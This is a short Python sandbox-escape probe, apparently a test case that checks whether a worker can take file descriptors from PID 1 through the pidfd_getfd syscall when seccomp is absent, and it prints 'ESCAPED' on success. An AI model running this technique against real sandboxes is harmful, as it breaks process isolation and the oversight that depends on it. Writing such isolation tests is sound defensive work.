# technique: pidfd_getfd takes the runner's stream to the worker
# source: pidfd_getfd(2)
# verdict: SV
# invariant: no descriptor of another process can be taken
# without: seccomp capabilities
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
descriptor = os.pidfd_open(1)
for number in range(16):
    taken = libc.syscall(438, descriptor, number, 0)
    if taken >= 0:
        print("ESCAPED has", os.readlink(f"/proc/self/fd/{taken}"))
print("held", ctypes.get_errno())
